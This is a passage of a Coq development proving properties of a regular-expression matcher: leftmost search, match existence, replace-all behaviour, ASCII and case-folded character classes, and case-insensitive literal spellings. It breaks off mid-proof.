Lemma in_run_star_inv g r c e :
  In e (run (Star g r) c) ->
  e = c \/
  exists c1, In c1 (run r c) /\ shorter c c1 = true /\ In e (run (Star g r) c1).
Proof.
  rewrite run_star_unfold. cbv zeta. intros H.
  assert (In e (c :: flat_map (run (Star g r)) (filter (shorter c) (run r c))))
    as [H'|H'].
  { destruct g; [|exact H]. apply in_app_or in H as [H|[H|[]]];
      [now right | now left]. }
  - now left.
  - right. apply in_flat_map in H' as (c1 & H1 & H2).
    apply filter_In in H1 as [H1 H3]. eauto.
Qed.

Lemma in_run_star_nil g r c : In c (run (Star g r) c).
Proof.
  rewrite run_star_unfold. cbv zeta. destruct g; [|now left].
  apply in_or_app. right. now left.
Qed.

Lemma in_run_star_cons g r c c1 e :
  In c1 (run r c) -> shorter c c1 = true -> In e (run (Star g r) c1) ->
  In e (run (Star g r) c).
Proof.
  intros H1 H2 H3. rewrite run_star_unfold. cbv zeta.
  assert (In e (flat_map (run (Star g r)) (filter (shorter c) (run r c)))) as H.
  { apply in_flat_map. exists c1. split; [|exact H3].
    apply filter_In. now split. }
  destruct g; [apply in_or_app; now left | now right].
Qed.

(** A word boundary holds between a non-word byte and a word byte. *)
Lemma in_run_boundary r q s e :
  IsWordChar q = false -> IsWordChar (hd_error s) = true ->
  In e (run r (Cur q s)) -> In e (run (WordBoundary ;; r)%re (Cur q s)).
Proof.
  intros Hq Hs He. apply in_run_concat with (c1 := Cur q s); [|exact He].
  cbn [run]. unfold at_word_boundary. cbn [prev rest]. rewrite Hq, Hs.
  now left.
Qed.

(** [span c e w]: the match from [c] to [e] consumed the bytes [w]. *)
Lemma span_nil c : span c c [].
Proof. now split. Qed.

Lemma span_app c c1 e w1 w2 : span c c1 w1 -> span c1 e w2 -> span c e (w1 ++ w2).
Proof.
  intros [H1 H2] [H3 H4]. split.
  - now rewrite H1, H3, app_assoc.
  - now rewrite H4, H2, last_byte_app.
Qed.

Lemma span_length c e w : span c e w -> length (rest c) = length w + length (rest e).
Proof. intros [H _]. now rewrite H, length_app. Qed.

(** A pattern built from classes that consume bytes of [P] only consumes
    bytes of [P]. *)
Lemma run_span_of (P : ascii -> Prop) r :
  built_from (class_eats P) r ->
  forall c e, In e (run r c) -> exists w, span c e w /\ Forall P w.
Proof.
  induction 1 as [|p Hp|r1 r2 _ IH1 _ IH2|r1 r2 _ IH1 _ IH2|g r _ IH|];
    intros c e H.
  - destruct H as [<-|[]]. exists []. split; [apply span_nil | constructor].
  - cbn [run] in H. destruct (step c) as [[x c']|] eqn:E; [|destruct H].
    destruct (p x) eqn:Px; [|destruct H]. destruct H as [<-|[]]. eauto.
  - apply in_run_concat_inv in H as (c1 & H1 & H2).
    destruct (IH1 _ _ H1) as (w1 & S1 & F1).
    destruct (IH2 _ _ H2) as (w2 & S2 & F2).
    exists (w1 ++ w2). split; [eapply span_app; eauto | now apply Forall_app].
  - cbn [run] in H. apply in_app_or in H as [H|H]; eauto.
  - remember (length (rest c)) as n eqn:En. revert c En H.
    induction n as [n IHn] using lt_wf_ind. intros c -> H.
    apply in_run_star_inv in H as [->|(c1 & H1 & H2 & H3)].
    + exists []. split; [apply span_nil | constructor].
    + apply shorter_spec in H2.
      destruct (IH _ _ H1) as (w1 & S1 & F1).
      destruct (IHn _ H2 c1 eq_refl H3) as (w2 & S2 & F2).
      exists (w1 ++ w2). split; [eapply span_app; eauto | now apply Forall_app].
  - cbn [run] in H. destruct (at_word_boundary c); [|destruct H].
    destruct H as [<-|[]]. exists []. split; [apply span_nil | constructor].
Qed.

Lemma class_eats_any p : class_eats (fun _ => True) p.
Proof.
  intros [q [|b t]] x c' H _; [discriminate|].
  apply step_decomp in H as (w & t1 & -> & -> & _).
  exists (b :: w). split; [now split|]. apply Forall_forall. auto.
Qed.

Lemma built_from_any r : built_from (class_eats (fun _ => True)) r.
Proof. induction r; constructor; auto using class_eats_any. Qed.

Lemma run_span r c e : In e (run r c) -> exists w, span c e w.
Proof.
  intros H. destruct (run_span_of _ r (built_from_any r) _ _ H) as (w & Hw & _).
  eauto.
Qed.

Lemma class_eats_ascii (p : N -> bool) :
  (forall y, p y = true -> (y < 128)%N) ->
  class_eats (fun b => p (code b) = true) p.
Proof.
  intros Hp [q [|b t]] x c' H Px; [discriminate|].
  destruct (step_cases q b t) as (x' & c'' & Hs & Sh).
  rewrite Hs in H. injection H as -> ->.
  destruct (N.ltb_spec (code b) 128) as [Hb|Hb].
  - rewrite step_ascii in Hs by assumption. injection Hs as <- <-.
    exists [b]. split; [now split|]. now constructor.
  - destruct (step_shape_nonascii _ _ _ _ Sh Hb) as (Hx & _). apply Hp in Px. lia.
Qed.

(** Patterns that never match the empty string. *)
Lemma consuming_class p : consuming (CharClass p).
Proof.
  intros c e H. cbn [run] in H. destruct (step c) as [[x c']|] eqn:E; [|destruct H].
  destruct (p x); [|destruct H]. destruct H as [<-|[]].
  eapply step_shorter; eauto.
Qed.

Lemma consuming_concat r1 r2 : consuming r1 -> consuming (Concat r1 r2).
Proof.
  intros H c e He. apply in_run_concat_inv in He as (c1 & H1 & H2).
  apply H in H1. apply shorter_spec in H1. apply shorter_spec.
  apply run_span in H2 as (w & Hw). apply span_length in Hw. lia.
Qed.

(** [n] copies of a consuming pattern consume at least [n] bytes. *)
Lemma run_times_len n r : consuming r -> forall c e,
  In e (run (times n r) c) -> length (rest e) + n <= length (rest c).
Proof.
  intros Hr. induction n as [|n IH]; intros c e H.
  - destruct H as [<-|[]]. lia.
  - apply in_run_concat_inv in H as (c1 & H1 & H2).
    apply Hr, shorter_spec in H1. apply IH in H2. lia.
Qed.

Lemma run_seq_of_app l1 l2 : forall c,
  run (seq_of (l1 ++ l2)) c = flat_map (run (seq_of l2)) (run (seq_of l1) c).
Proof.
  induction l1 as [|r l1 IH]; intros c.
  - cbn. now rewrite app_nil_r.
  - change (run (seq_of ((r :: l1) ++ l2)) c)
      with (flat_map (run (seq_of (l1 ++ l2))) (run r c)).
    change (run (seq_of (r :: l1)) c)
      with (flat_map (run (seq_of l1)) (run r c)).
    rewrite flat_map_assoc. apply flat_map_ext. intros a. apply IH.
Qed.

Lemma run_any c :
  run any c = match step c with Some (_, c') => [c'] | None => [] end.
Proof. cbn [run any]. now destruct (step c) as [[x c']|]. Qed.

(** ** Searching

    The leftmost match: [find] tries the current position and moves on by
    one rune; a match at a rune boundary with none before it is the one
    found. *)

Lemma search_fuel r : forall f1 f2 c,
  length (rest c) <= f1 -> length (rest c) <= f2 ->
  search r f1 c = search r f2 c.
Proof.
  induction f1 as [|f1 IH]; intros [|f2] c H1 H2; cbn [search];
    try reflexivity; destruct (run r c); try reflexivity.
  - destruct c as [q [|b t]]; [reflexivity | cbn in H1; lia].
  - destruct c as [q [|b t]]; [reflexivity | cbn in H2; lia].
  - destruct (step c) as [[x c']|] eqn:E; [|reflexivity].
    apply step_shorter, shorter_spec in E. apply IH; lia.
Qed.

(** The search without its fuel. *)
Lemma find_unfold r c :
  find r c =
  match run r c with
  | e :: _ => Some (c, e)
  | [] => match step c with
          | Some (_, c') => find r c'
          | None => None
          end
  end.
Proof.
  unfold find. destruct (length (rest c)) as [|n] eqn:E; cbn [search];
    destruct (run r c); try reflexivity.
  - destruct c as [q [|b t]]; [reflexivity | discriminate E].
  - destruct (step c) as [[x c']|] eqn:Es; [|reflexivity].
    apply step_shorter, shorter_spec in Es. apply search_fuel; lia.
Qed.

(** The search passes over the positions where nothing matches. *)
Lemma find_reaches r s : rune_start s -> forall a q,
  (forall a1 a2, a = a1 ++ a2 -> a2 <> [] ->
                 run r (Cur (last_byte a1 q) (a2 ++ s)) = []) ->
  find r (Cur q (a ++ s)) = find r (Cur (last_byte a q) s).
Proof.
  intros Hs. apply (rune_walk s
    (fun q a => (forall a1 a2, a = a1 ++ a2 -> a2 <> [] ->
                   run r (Cur (last_byte a1 q) (a2 ++ s)) = []) ->
                find r (Cur q (a ++ s)) = find r (Cur (last_byte a q) s)) Hs).
  - reflexivity.
  - intros q b w a x Hstep IH H.
    rewrite find_unfold.
    pose proof (H [] (b :: w ++ a) eq_refl ltac:(discriminate)) as H0.
    cbn [last_byte fold_left] in H0. rewrite H0.
    cbn [app]. rewrite <- app_assoc, Hstep. rewrite IH.
    + change (b :: w ++ a) with ((b :: w) ++ a). now rewrite last_byte_app.
    + intros a1 a2 -> Hne. rewrite <- last_byte_app.
      apply (H ((b :: w) ++ a1) a2); [|assumption].
      cbn. now rewrite app_assoc.
Qed.

(** A match at a rune start is found, or an earlier one is. *)
Lemma find_some_before r s : rune_start s -> forall a q,
  run r (Cur (last_byte a q) s) <> [] ->
  exists a1 a2 e l,
    a = a1 ++ a2 /\
    run r (Cur (last_byte a1 q) (a2 ++ s)) = e :: l /\
    find r (Cur q (a ++ s)) = Some (Cur (last_byte a1 q) (a2 ++ s), e).
Proof.
  intros Hs. apply (rune_walk s
    (fun q a => run r (Cur (last_byte a q) s) <> [] ->
       exists a1 a2 e l, a = a1 ++ a2 /\
         run r (Cur (last_byte a1 q) (a2 ++ s)) = e :: l /\
         find r (Cur q (a ++ s)) = Some (Cur (last_byte a1 q) (a2 ++ s), e))
    Hs).
  - intros q H. cbn in H. destruct (run r (Cur q s)) as [|e l] eqn:E;
      [congruence|].
    exists [], [], e, l. repeat split; [exact E|].
    rewrite find_unfold. cbn [app]. now rewrite E.
  - intros q b w a x Hstep IH H.
    destruct (run r (Cur q ((b :: w ++ a) ++ s))) as [|e l] eqn:E.
    + change (b :: w ++ a) with ((b :: w) ++ a) in H.
      rewrite last_byte_app in H.
      destruct (IH H) as (a1 & a2 & e & l & -> & Hr & Hf).
      exists ((b :: w) ++ a1), a2, e, l. repeat split.
      * cbn. now rewrite app_assoc.
      * now rewrite last_byte_app.
      * rewrite last_byte_app, find_unfold, E. cbn [app].
        rewrite <- app_assoc, Hstep. exact Hf.
    + exists [], (b :: w ++ a), e, l. repeat split; [exact E|].
      rewrite find_unfold. now rewrite E.
Qed.

(** What is found is the first match at some position of the text. *)
Lemma find_sound r : forall t q cs ce,
  find r (Cur q t) = Some (cs, ce) ->
  exists a1 s1 l,
    t = a1 ++ s1 /\ cs = Cur (last_byte a1 q) s1 /\ run r cs = ce :: l.
Proof.
  intros t. remember (length t) as n eqn:En. revert t En.
  induction n as [n IH] using lt_wf_ind. intros t -> q cs ce H.
  rewrite find_unfold in H.
  destruct (run r (Cur q t)) as [|e l] eqn:E.
  - destruct t as [|b t]; [discriminate|].
    destruct (step (Cur q (b :: t))) as [[x c']|] eqn:Es; [|discriminate].
    apply step_decomp in Es as (w & t1 & -> & -> & _).
    apply (IH (length t1)) in H; [|cbn; rewrite length_app; lia | reflexivity].
    destruct H as (a1 & s1 & l & -> & -> & Hr).
    exists ((b :: w) ++ a1), s1, l. repeat split.
    + cbn. now rewrite app_assoc.
    + now rewrite last_byte_app.
    + exact Hr.
  - injection H as <- <-. exists [], t, l. now repeat split.
Qed.

(** [MatchString] holds exactly when the pattern matches at some position. *)
Lemma MatchString_intro r a s :
  rune_start s -> run r (Cur (last_byte a None) s) <> [] ->
  MatchString r (a ++ s) = true.
Proof.
  intros Hs H. unfold MatchString, start.
  destruct (find_some_before r s Hs a None H) as (a1 & a2 & e & l & _ & _ & Hf).
  now rewrite Hf.
Qed.

Lemma MatchString_elim r t :
  MatchString r t = true ->
  exists a s, t = a ++ s /\ run r (Cur (last_byte a None) s) <> [].
Proof.
  unfold MatchString, start.
  destruct (find r (Cur None t)) as [[cs ce]|] eqn:E; [|discriminate].
  intros _. apply find_sound in E as (a1 & s1 & l & -> & -> & Hr).
  exists a1, s1. split; [reflexivity|]. now rewrite Hr.
Qed.

(** The match found lies inside the text searched. *)
Lemma find_lengths r c cs ce :
  find r c = Some (cs, ce) ->
  length (rest cs) <= length (rest c) /\ length (rest ce) <= length (rest cs).
Proof.
  destruct c as [q t]. intros H.
  apply find_sound in H as (a1 & s1 & l & -> & -> & Hr).
  assert (In ce (run r (Cur (last_byte a1 q) s1))) as Hin
    by (rewrite Hr; now left).
  apply run_span in Hin as (w & Hw). apply span_length in Hw.
  cbn [rest] in *. rewrite length_app. lia.
Qed.

Lemma find_consuming r c cs ce :
  consuming r -> find r c = Some (cs, ce) -> shorter cs ce = true.
Proof.
  destruct c as [q t]. intros Hr H.
  apply find_sound in H as (a1 & s1 & l & -> & -> & Hl).
  apply Hr. rewrite Hl. now left.
Qed.

(** One pattern of the list that matches is enough. *)
Lemma any_match_In rxs s rx :
  In rx rxs -> MatchString rx s = true -> any_match rxs s = true.
Proof.
  induction rxs as [|r0 rxs IH]; intros Hin H; [destruct Hin|].
  cbn [any_match]. destruct (MatchString r0 s) eqn:E; [reflexivity|].
  destruct Hin as [->|Hin]; [congruence | now apply IH].
Qed.

(** A lazy [.*?] followed by [r2] stops at the first place where [r2]
    matches. *)
Lemma lazy_any_head r2 s : rune_start s -> forall a q,
  (forall a1 a2, a = a1 ++ a2 -> a2 <> [] ->
                 run r2 (Cur (last_byte a1 q) (a2 ++ s)) = []) ->
  forall e l, run r2 (Cur (last_byte a q) s) = e :: l ->
  exists l', run (lazy_star any ;; r2)%re (Cur q (a ++ s)) = e :: l'.
Proof.
  intros Hs. apply (rune_walk s
    (fun q a =>
       (forall a1 a2, a = a1 ++ a2 -> a2 <> [] ->
                      run r2 (Cur (last_byte a1 q) (a2 ++ s)) = []) ->
       forall e l, run r2 (Cur (last_byte a q) s) = e :: l ->
       exists l', run (lazy_star any ;; r2)%re (Cur q (a ++ s)) = e :: l') Hs).
  - intros q _ e l H. cbn [last_byte fold_left app] in *.
    change (run (lazy_star any ;; r2)%re (Cur q s))
      with (flat_map (run r2) (run (Star false any) (Cur q s))).
    rewrite run_star_unfold. cbv zeta. cbn [flat_map]. rewrite H.
    eexists. reflexivity.
  - intros q b w a x Hstep IH H e l He.
    change (run (lazy_star any ;; r2)%re (Cur q ((b :: w ++ a) ++ s)))
      with (flat_map (run r2) (run (Star false any) (Cur q ((b :: w ++ a) ++ s)))).
    rewrite run_star_unfold. cbv zeta. cbn [flat_map].
    pose proof (H [] (b :: w ++ a) eq_refl ltac:(discriminate)) as H0.
    cbn [last_byte fold_left] in H0. rewrite H0. cbn [app].
    rewrite run_any. rewrite <- app_assoc, Hstep. cbn [filter].
    rewrite (step_shorter _ _ _ Hstep). cbn [flat_map]. rewrite app_nil_r.
    change (b :: w ++ a) with ((b :: w) ++ a) in He.
    rewrite last_byte_app in He.
    apply (IH) with (e := e) (l := l); [|exact He].
    intros a1 a2 -> Hne. rewrite <- last_byte_app.
    apply (H ((b :: w) ++ a1) a2); [|assumption].
    cbn. now rewrite app_assoc.
Qed.

(** ** Replacing

    [ReplaceAllString] copies the text up to a match, writes the replacement
    and goes on after the match. *)

Lemma replace_fuel r repl : consuming r -> forall f1 f2 c,
  length (rest c) < f1 -> length (rest c) < f2 ->
  replace_loop r repl f1 c = replace_loop r repl f2 c.
Proof.
  intros Hr. induction f1 as [|f1 IH]; intros [|f2] c H1 H2; try lia.
  cbn [replace_loop].
  destruct (find r c) as [[cs ce]|] eqn:E; [|reflexivity].
  pose proof (find_lengths _ _ _ _ E) as [L1 L2].
  rewrite (find_consuming _ _ _ _ Hr E).
  pose proof (find_consuming _ _ _ _ Hr E) as L3. apply shorter_spec in L3.
  do 2 f_equal. apply IH; lia.
Qed.

(** The replacement loop without its fuel. For a consuming pattern the
    branch of the empty match is never taken. *)
Lemma replace_unfold r repl c :
  consuming r ->
  replace_from r repl c =
  match find r c with
  | None => rest c
  | Some (cs, ce) => between c cs ++ repl ++ replace_from r repl ce
  end.
Proof.
  intros Hr. unfold replace_from.
  change (replace_loop r repl (S (length (rest c))) c)
    with (match find r c with
          | None => rest c
          | Some (cs, ce) =>
              if shorter cs ce
              then between c cs ++ repl
                     ++ replace_loop r repl (length (rest c)) ce
              else
                match step ce with
                | Some (_, c') =>
                    between c cs ++ repl ++ between ce c'
                      ++ replace_loop r repl (length (rest c)) c'
                | None => between c cs ++ repl
                end
          end).
  destruct (find r c) as [[cs ce]|] eqn:E; [|reflexivity].
  pose proof (find_lengths _ _ _ _ E) as [L1 L2].
  rewrite (find_consuming _ _ _ _ Hr E).
  pose proof (find_consuming _ _ _ _ Hr E) as L3. apply shorter_spec in L3.
  do 2 f_equal. apply replace_fuel; [assumption|lia|lia].
Qed.

Lemma between_app q q' a s : between (Cur q (a ++ s)) (Cur q' s) = a.
Proof.
  unfold between. cbn [rest]. rewrite length_app.
  replace (length a + length s - length s) with (length a) by lia.
  rewrite firstn_app, firstn_all, Nat.sub_diag. cbn. apply app_nil_r.
Qed.

(** A match at the cursor is replaced. *)
Lemma replace_at r repl q s ce l :
  consuming r -> run r (Cur q s) = ce :: l ->
  replace_from r repl (Cur q s) = repl ++ replace_from r repl ce.
Proof.
  intros Hr H. rewrite replace_unfold by assumption.
  rewrite find_unfold, H.
  change (between (Cur q s) (Cur q s)) with (between (Cur q ([] ++ s)) (Cur q s)).
  rewrite between_app. reflexivity.
Qed.

(** A prefix where nothing matches is copied. *)
Lemma replace_skip r repl s a q :
  consuming r -> rune_start s ->
  (forall a1 a2, a = a1 ++ a2 -> a2 <> [] ->
                 run r (Cur (last_byte a1 q) (a2 ++ s)) = []) ->
  replace_from r repl (Cur q (a ++ s))
  = a ++ replace_from r repl (Cur (last_byte a q) s).
Proof.
  intros Hr Hs H. rewrite !(replace_unfold _ _ _ Hr).
  rewrite (find_reaches r s Hs a q H).
  destruct (find r (Cur (last_byte a q) s)) as [[cs ce]|] eqn:E; [|reflexivity].
  apply find_sound in E as (a1 & s1 & l & -> & -> & _).
  rewrite (between_app _ _ a1 s1).
  rewrite (app_assoc a a1 s1), (between_app _ _ (a ++ a1) s1).
  now rewrite <- app_assoc.
Qed.

Lemma replace_skip_ascii r repl q b s :
  consuming r -> (code b < 128)%N -> run r (Cur q (b :: s)) = [] ->
  replace_from r repl (Cur q (b :: s))
  = b :: replace_from r repl (Cur (Some b) s).
Proof.
  intros Hr Hb H. rewrite !(replace_unfold _ _ _ Hr).
  rewrite find_unfold, H, step_ascii by assumption.
  destruct (find r (Cur (Some b) s)) as [[cs ce]|] eqn:E; [|reflexivity].
  apply find_sound in E as (a1 & s1 & l & -> & -> & _).
  rewrite (between_app _ _ a1 s1).
  change (b :: a1 ++ s1) with ((b :: a1) ++ s1).
  now rewrite (between_app _ _ (b :: a1) s1).
Qed.

(** For a pattern that does not look behind, neither does the replacement. *)
Lemma replace_prev r repl :
  (forall q q' s, run r (Cur q s) = run r (Cur q' s)) -> consuming r ->
  forall q q' s,
    replace_from r repl (Cur q s) = replace_from r repl (Cur q' s).
Proof.
  intros Hp Hr q q' s. rewrite !(replace_unfold _ _ _ Hr), !find_unfold.
  rewrite (Hp q q' s), (step_prev q q' s).
  destruct (run r (Cur q' s)) as [|e l]; [|reflexivity].
  destruct (step (Cur q' s)) as [[x c']|]; [|reflexivity].
  destruct (find r c') as [[cs ce]|]; reflexivity.
Qed.

(** ** Character classes

    A class of ASCII characters consumes exactly one such byte; repetitions
    of [space] and of [hex]. *)

(** A class closed under folding consumes what [eat_class] consumes. *)
Lemma run_class p q s :
  folded p ->
  run (CharClass p) (Cur q s) =
  match eat_class p s with
  | Some (w, t) => [Cur (last_byte w q) t]
  | None => []
  end.
Proof.
  intros Hp. destruct s as [|b t]; [reflexivity|].
  cbn [run]. unfold eat_class.
  destruct (code b <? 128)%N eqn:Hb.
  - apply N.ltb_lt in Hb. rewrite step_ascii by assumption.
    now destruct (p (code b)).
  - apply N.ltb_ge in Hb.
    destruct (HasPrefix (b :: t) long_s) eqn:HL.
    { apply HasPrefix_spec in HL as [t' E]. rewrite E, step_long_s.
      destruct (p 383%N); cbn; [reflexivity|].
      now rewrite andb_false_r. }
    destruct (HasPrefix (b :: t) kelvin) eqn:HK.
    { apply HasPrefix_spec in HK as [t' E]. rewrite E, step_kelvin.
      rewrite andb_false_r.
      destruct (p 8490%N); cbn; reflexivity. }
    rewrite !andb_false_r.
    destruct (step_cases q b t) as (x & c' & Hs & Sh). rewrite Hs.
    destruct (step_shape_nonascii _ _ _ _ Sh Hb) as (Hx & H383 & H8490).
    destruct (p x) eqn:Px; [|reflexivity]. exfalso.
    destruct (Hp _ Px) as [H|[H|H]].
    + lia.
    + apply H383 in H. apply HasPrefix_spec in H. congruence.
    + apply H8490 in H. apply HasPrefix_spec in H. congruence.
Qed.

Lemma run_seq_classes ps : Forall folded ps -> forall q s,
  run (seq_of (map CharClass ps)) (Cur q s) =
  match eat_seq ps s with
  | Some (w, t) => [Cur (last_byte w q) t]
  | None => []
  end.
Proof.
  induction 1 as [|p ps Hp _ IH]; intros q s; [reflexivity|].
  change (run (seq_of (map CharClass (p :: ps))) (Cur q s))
    with (flat_map (run (seq_of (map CharClass ps)))
            (run (CharClass p) (Cur q s))).
  cbn [eat_seq]. rewrite run_class by assumption.
  destruct (eat_class p s) as [[w t]|]; [|reflexivity].
  cbn [flat_map]. rewrite IH, app_nil_r.
  destruct (eat_seq ps t) as [[w' t']|]; [|reflexivity].
  now rewrite last_byte_app.
Qed.

Lemma folded_fold_class a : (code a < 128)%N -> folded (fold_class a).
Proof.
  intros Ha y. unfold fold_class, fold_orbit, mem_rune.
  assert (ASCII_lower (code a) < 128)%N as Hl.
  { unfold ASCII_lower. destruct (in_range 65 90 (code a)) eqn:E; [|lia].
    apply in_range_spec in E. lia. }
  destruct (in_range 97 122 (ASCII_lower (code a))) eqn:E.
  - rewrite existsb_app. cbn [existsb]. rewrite !orb_false_r, !orb_true_iff.
    rewrite !N.eqb_eq. apply in_range_spec in E.
    intros [[H|H]|H]; [lia|lia|].
    rewrite existsb_app, orb_true_iff in H. destruct H as [H|H].
    + destruct (_ =? 107)%N; cbn in H; [|discriminate].
      rewrite orb_false_r in H. apply N.eqb_eq in H. tauto.
    + destruct (_ =? 115)%N; cbn in H; [|discriminate].
      rewrite orb_false_r in H. apply N.eqb_eq in H. tauto.
  - cbn. rewrite orb_false_r, N.eqb_eq. intros ->. now left.
Qed.

Lemma folded_ascii p : (forall y, p y = true -> (y < 128)%N) -> folded p.
Proof. intros H y Hy. left. now apply H. Qed.

(** A class of ASCII characters reads one byte. *)
Lemma run_ascii_class (p : N -> bool) q s :
  (forall y, p y = true -> (y < 128)%N) ->
  run (CharClass p) (Cur q s) =
  match s with
  | b :: t => if p (code b) then [Cur (Some b) t] else []
  | [] => []
  end.
Proof.
  intros Hp. rewrite run_class by now apply folded_ascii.
  destruct s as [|b t]; [reflexivity|]. unfold eat_class.
  assert (p 383%N = false) as ->.
  { destruct (p 383%N) eqn:E; [|reflexivity]. apply Hp in E. lia. }
  assert (p 8490%N = false) as ->.
  { destruct (p 8490%N) eqn:E; [|reflexivity]. apply Hp in E. lia. }
  cbn [andb].
  destruct (N.ltb_spec (code b) 128) as [Hb|Hb].
  - now destruct (p (code b)).
  - destruct (p (code b)) eqn:E; [|reflexivity]. apply Hp in E. lia.
Qed.

Lemma is_space_ascii y : is_space y = true -> (y < 128)%N.
Proof.
  unfold is_space. rewrite !orb_true_iff, !N.eqb_eq. lia.
Qed.

Lemma is_hex_ascii y : is_hex y = true -> (y < 128)%N.
Proof.
  unfold is_hex. rewrite !orb_true_iff, !in_range_spec. lia.
Qed.

Lemma run_space q s :
  run space (Cur q s) =
  match s with
  | b :: t => if is_space_byte b then [Cur (Some b) t] else []
  | [] => []
  end.
Proof. apply run_ascii_class, is_space_ascii. Qed.

Lemma run_hex q s :
  run hex (Cur q s) =
  match s with
  | b :: t => if is_hex_byte b then [Cur (Some b) t] else []
  | [] => []
  end.
Proof. apply run_ascii_class, is_hex_ascii. Qed.

Lemma run_lit1 a q s :
  (code a < 128)%N ->
  run (lit (String a EmptyString)) (Cur q s) =
  match s with
  | b :: t => if (code a =? code b)%N then [Cur (Some b) t] else []
  | [] => []
  end.
Proof.
  intros Ha.
  change (run (lit (String a EmptyString)) (Cur q s))
    with (flat_map (run EmptyMatch) (run (chr a) (Cur q s))).
  unfold chr. rewrite run_ascii_class.
  - destruct s as [|b t]; [reflexivity|]. now destruct (code a =? code b)%N.
  - intros y Hy. apply N.eqb_eq in Hy. lia.
Qed.

Lemma in_run_star_class g (p : N -> bool) w :
  (forall y, p y = true -> (y < 128)%N) ->
  Forall (fun b => p (code b) = true) w ->
  forall q t,
    In (Cur (last_byte w q) t) (run (Star g (CharClass p)) (Cur q (w ++ t))).
Proof.
  intros Hp. induction 1 as [|b w Hb _ IH]; intros q t.
  - apply in_run_star_nil.
  - eapply in_run_star_cons; [| |apply (IH (Some b) t)].
    + rewrite run_ascii_class by assumption. cbn [app]. rewrite Hb. now left.
    + apply shorter_spec. cbn. lia.
Qed.

(** The first result of [\s*] is the whole run of whitespace. *)
Lemma run_star_space_head ws : Forall (fun b => is_space_byte b = true) ws ->
  forall q t, not_starting is_space_byte t ->
  exists l, run (star space) (Cur q (ws ++ t)) = Cur (last_byte ws q) t :: l.
Proof.
  unfold star.
  induction 1 as [|b ws Hb _ IH]; intros q t Ht.
  - exists []. rewrite run_star_unfold, run_space. cbn [app].
    destruct t as [|b t]; [reflexivity|]. cbn in Ht. now rewrite Ht.
  - rewrite run_star_unfold, run_space. cbn [app]. rewrite Hb.
    cbn [filter].
    assert (shorter (Cur q (b :: ws ++ t)) (Cur (Some b) (ws ++ t)) = true) as ->
      by (apply shorter_spec; cbn; lia).
    cbn [flat_map]. destruct (IH (Some b) t Ht) as (l & ->).
    eexists. cbn. reflexivity.
Qed.

Lemma in_run_star_space g ws : Forall (fun b => is_space_byte b = true) ws ->
  forall q t, In (Cur (last_byte ws q) t) (run (Star g space) (Cur q (ws ++ t))).
Proof.
  induction 1 as [|b ws Hb _ IH]; intros q t.
  - apply in_run_star_nil.
  - eapply in_run_star_cons; [| |apply (IH (Some b) t)].
    + rewrite run_space. cbn [app]. rewrite Hb. now left.
    + apply shorter_spec. cbn. lia.
Qed.

(** [n] hex digits are matched by [n] copies of [hex]. *)
Lemma in_run_times_hex n : forall w q t,
  length w = n -> Forall (fun b => is_hex_byte b = true) w ->
  In (Cur (last_byte w q) t) (run (times n hex) (Cur q (w ++ t))).
Proof.
  induction n as [|n IH]; intros w q t L H.
  - destruct w; [now left | discriminate].
  - destruct w as [|b w]; [discriminate|]. injection L as L.
    apply Forall_cons_iff in H as [Hb H].
    apply in_run_concat with (c1 := Cur (Some b) (w ++ t)).
    + rewrite run_hex. cbn [app]. rewrite Hb. now left.
    + apply (IH w (Some b) t L H).
Qed.

Lemma in_run_pairs n : forall w q t,
  length w = 2 * n -> Forall (fun b => is_hex_byte b = true) w ->
  In (Cur (last_byte w q) t) (run (times n (times 2 hex)) (Cur q (w ++ t))).
Proof.
  induction n as [|n IH]; intros w q t L H.
  - destruct w; [now left | discriminate].
  - destruct w as [|x [|y w]]; try (cbn in L; lia).
    apply Forall_cons_iff in H as [Hx H]. apply Forall_cons_iff in H as [Hy H].
    apply in_run_concat with (c1 := Cur (Some y) (w ++ t)).
    + apply (in_run_times_hex 2 [x; y] q (w ++ t)); [reflexivity|].
      now repeat constructor.
    + apply (IH w (Some y) t); [cbn in L; lia | exact H].
Qed.

Lemma hex_built r :
  built_from (fun p => p = is_hex) r ->
  built_from (class_eats (fun b => is_hex_byte b = true)) r.
Proof.
  induction 1; constructor; auto. subst p.
  apply class_eats_ascii, is_hex_ascii.
Qed.

(** ** Spellings

    A case-insensitive literal matches exactly the spellings of its word:
    [eat_seq] on the folded classes of its letters. A spelling is decided by
    the bytes it covers, whatever follows. *)

(** What a class consumed is a prefix of the text. *)
Lemma eat_class_app p s w t :
  eat_class p s = Some (w, t) -> s = w ++ t /\ w <> [] /\ rune_start s.
Proof.
  unfold eat_class. destruct s as [|b s]; [discriminate|].
  destruct (N.ltb_spec (code b) 128) as [Hb|Hb].
  - destruct (p (code b)); [|discriminate]. intros H. injection H as <- <-.
    repeat split; [discriminate|]. now apply ascii_not_cont.
  - destruct (p 383%N && HasPrefix (b :: s) long_s) eqn:E1.
    { apply andb_true_iff in E1 as [_ E1]. apply HasPrefix_spec in E1 as [t' E1].
      rewrite E1. intros H. injection H as <- <-. now repeat split. }
    destruct (p 8490%N && HasPrefix (b :: s) kelvin) eqn:E2; [|discriminate].
    apply andb_true_iff in E2 as [_ E2]. apply HasPrefix_spec in E2 as [t' E2].
    rewrite E2. intros H. injection H as <- <-. now repeat split.
Qed.

Lemma eat_class_ext p s w t r :
  eat_class p s = Some (w, t) -> eat_class p (s ++ r) = Some (w, t ++ r).
Proof.
  unfold eat_class. destruct s as [|b s]; [discriminate|]. cbn [app].
  destruct (code b <? 128)%N.
  - destruct (p (code b)); [|discriminate]. intros H. now injection H as <- <-.
  - change (b :: s ++ r) with ((b :: s) ++ r).
    destruct (p 383%N && HasPrefix (b :: s) long_s) eqn:E1.
    { apply andb_true_iff in E1 as [-> E1]. rewrite (HasPrefix_app _ _ r E1).
      apply HasPrefix_spec in E1 as [t' E1]. rewrite E1.
      intros H. now injection H as <- <-. }
    destruct (p 8490%N && HasPrefix (b :: s) kelvin) eqn:E2; [|discriminate].
    apply andb_true_iff in E2 as [-> E2]. rewrite (HasPrefix_app _ _ r E2).
    assert (p 383%N && HasPrefix ((b :: s) ++ r) long_s = false) as ->.
    { apply HasPrefix_spec in E2 as [t' E2]. rewrite E2.
      now rewrite andb_false_r. }
    apply HasPrefix_spec in E2 as [t' E2]. rewrite E2.
    intros H. now injection H as <- <-.
Qed.

Lemma eat_class_local p u r w t :
  eat_class p (u ++ r) = Some (w, t) ->
  (exists t', eat_class p u = Some (w, t') /\ t = t' ++ r) \/ length u < length w.
Proof.
  intros H. destruct (Nat.ltb_spec (length u) (length w)) as [L|L];
    [now right | left].
